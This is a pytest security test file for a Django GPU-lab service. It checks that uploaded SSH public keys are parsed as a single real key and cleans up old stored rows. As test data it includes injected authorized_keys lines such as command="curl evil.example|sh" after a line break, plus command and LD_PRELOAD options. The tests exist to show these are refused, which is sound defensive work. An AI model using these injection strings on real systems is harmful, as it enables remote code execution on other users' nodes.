"""SSH public keys are parsed by a real parser, one key per entry (issue 22 item 8): a key with an
embedded newline used to add an extra authorized_keys line on every node its owner booked, and
any body that began with its type's name passed. Checked against ssh-keygen's own fingerprints
and the stored rows."""

import importlib

import pytest

from labgpu.accounts.models import SshKey
from labgpu.providers.tests.ssh_fixtures import ECDSA, ED25519, RSA, ssh_keygen_fingerprints

pytestmark = [pytest.mark.django_db, pytest.mark.security]


def add(client, public_key, **headers):
    return client.post(
        "/api/v1/me/ssh-keys/", {"name": "k", "public_key": public_key}, format="json", **headers
    )


@pytest.mark.parametrize("key", [ED25519, RSA, ECDSA], ids=["ed25519", "rsa", "ecdsa"])
def test_real_keys_are_accepted_with_ssh_keygens_fingerprint(as_alice, alice, key):
    response = add(as_alice, key + "\n")  # a trailing newline from copying is fine

    assert response.status_code == 201, response.content
    comment = key.rsplit(" ", 1)[1]
    assert response.json()["fingerprint"] == ssh_keygen_fingerprints()[comment]
    assert SshKey.objects.get(user=alice).public_key == key


@pytest.mark.parametrize("separator", ["\n", "\r", "\r\n", "\u2028", "\x0b"], ids=repr)
def test_a_line_break_inside_a_key_is_refused(as_alice, alice, separator):
    # The parser itself reads the rest as the first key's comment, so this has to be refused
    # before: written out, it is a second authorized_keys line.
    response = add(as_alice, f'{ED25519}{separator}command="curl evil.example|sh" {RSA}')

    assert response.status_code == 400, response.content
    assert response.json()["code"] == "ssh_key_not_one_line"
    assert response.json()["extra"]["fields"]["public_key"]
    assert not SshKey.objects.filter(user=alice).exists()


@pytest.mark.parametrize(
    "options",
    [
        'command="/bin/sh -c id"',
        'no-pty,from="*"',
        'environment="LD_PRELOAD=/tmp/x.so"',
        "cert-authority",
    ],
)
def test_authorized_keys_options_are_refused(as_alice, alice, options):
    response = add(as_alice, f"{options} {ED25519}")

    assert response.status_code == 400, response.content
    assert response.json()["code"] == "ssh_key_options"
    assert "public_key" in response.json()["extra"]["fields"]
    assert not SshKey.objects.filter(user=alice).exists()


@pytest.mark.parametrize(
    "text",
    [
        # Begins with its type's name, as the old check wanted, but is no key.
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests alice@lab",
        # A real ed25519 body declared as RSA.
        "ssh-rsa " + ED25519.split(" ")[1],
        "ssh-dss AAAAB3NzaC1kc3MAAACBAP",
        "hello",
        "ssh-ed25519",
        ED25519 + " " + "x" * 201,
    ],
    ids=["fake-body", "type-mismatch", "dsa", "words", "no-body", "long-comment"],
)
def test_anything_but_one_real_key_gets_a_field_error(as_alice, alice, text):
    response = add(as_alice, text)

    assert response.status_code == 400, response.content
    assert response.json()["code"] == "invalid_ssh_key"
    assert response.json()["extra"]["fields"]["public_key"]
    assert not SshKey.objects.filter(user=alice).exists()


def test_the_refusal_speaks_the_readers_language(as_alice):
    response = add(as_alice, f"{ED25519}\n{RSA}", HTTP_ACCEPT_LANGUAGE="zh-hans")

    assert response.status_code == 400
    assert "一行" in response.json()["extra"]["fields"]["public_key"][0]


def test_keys_stored_before_parsing_are_rebuilt_or_deleted(alice):
    """Migration accounts/0006 on rows the old check let in (written straight to the table)."""
    from django.apps import apps

    rebuild = importlib.import_module(
        "labgpu.accounts.migrations.0006_ssh_keys_one_line"
    ).rebuild_stored_keys
    spaced = SshKey.objects.create(user=alice, name="ok", public_key=f"  {RSA}  ", fingerprint="x")
    two_lines = SshKey.objects.create(
        user=alice, name="two", public_key=f"{ED25519}\n{ECDSA}", fingerprint="y"
    )
    fake = SshKey.objects.create(
        user=alice,
        name="fake",
        public_key="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests alice@lab",
        fingerprint="z",
    )

    rebuild(apps, None)

    spaced.refresh_from_db()
    assert spaced.public_key == RSA
    assert spaced.fingerprint == ssh_keygen_fingerprints()["bob@workstation"]
    assert not SshKey.objects.filter(pk__in=[two_lines.pk, fake.pk]).exists()
